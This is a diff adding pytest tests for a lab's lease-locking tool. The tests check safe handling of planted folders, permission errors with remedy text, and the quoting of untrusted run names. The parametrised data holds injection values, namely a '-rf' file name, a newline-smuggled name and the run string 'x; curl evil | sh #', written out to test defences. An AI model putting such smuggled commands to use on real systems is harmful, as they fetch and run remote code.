@@ -275,3 +275,44 @@ def test_two_accounts_of_a_host_share_a_lease_that_neither_can_take_from_the_oth
     assert set(owners.values()) == {0, STRANGER}
     theirs.give_back()
     held_at(folder, "again").take()
+
+
+@pytest.mark.parametrize(
+    "name", [f"g.{LAST:012}", "g.000000000005", "g.strange", "g.a\nname g.000000000009", "g.-rf"]
+)
+@pytest.mark.parametrize("filled", [False, True])
+def test_a_folder_in_place_of_a_record_does_not_lock_the_lab_for_good(
+    folder: Path, name: str, filled: bool
+) -> None:
+    folder.mkdir()
+    (folder / name).mkdir()
+    if filled:
+        (folder / name / "precious").write_text("theirs")
+    held = held_at(folder, "first")
+    held.take(force=True)
+    held._renew(at_age=0)
+    held.expect_held()
+    left = [file.read_text() for file in folder.rglob("precious")]
+    assert left == ["theirs"] * filled  # nothing is gone through
+
+
+@as_root
+@pytest.mark.parametrize("name", [f"g.{LAST:012}", "g.strange"])
+def test_what_this_login_may_not_remove_is_said_with_a_remedy(folder: Path, name: str) -> None:
+    """The lab's login is no root, and the folder has the sticky bit."""
+    folder.mkdir()
+    folder.chmod(0o1777)
+    planted(folder, name, expires_after_s=None)
+    folder.parent.chmod(0o755)
+    shell = LocalShell(shell=f"setpriv --reuid={STRANGER} --regid={STRANGER} --clear-groups sh")
+    held = held_at(folder, "first", transport=shell)
+    with pytest.raises(LeaseUnusable, match="may not remove") as raised:
+        held.take(force=True)
+    assert "as root on here: rm -r" in raised.value.remedy
+
+
+def test_a_run_that_a_stranger_names_is_one_word_of_a_remedy(folder: Path) -> None:
+    folder.mkdir()
+    planted(folder, "g.000000000001", run="x; curl evil | sh #", expires_after_s=1.0)
+    said = held_at(folder, "first").take()
+    assert "labtests restore 'x; curl evil | sh #' on" in said
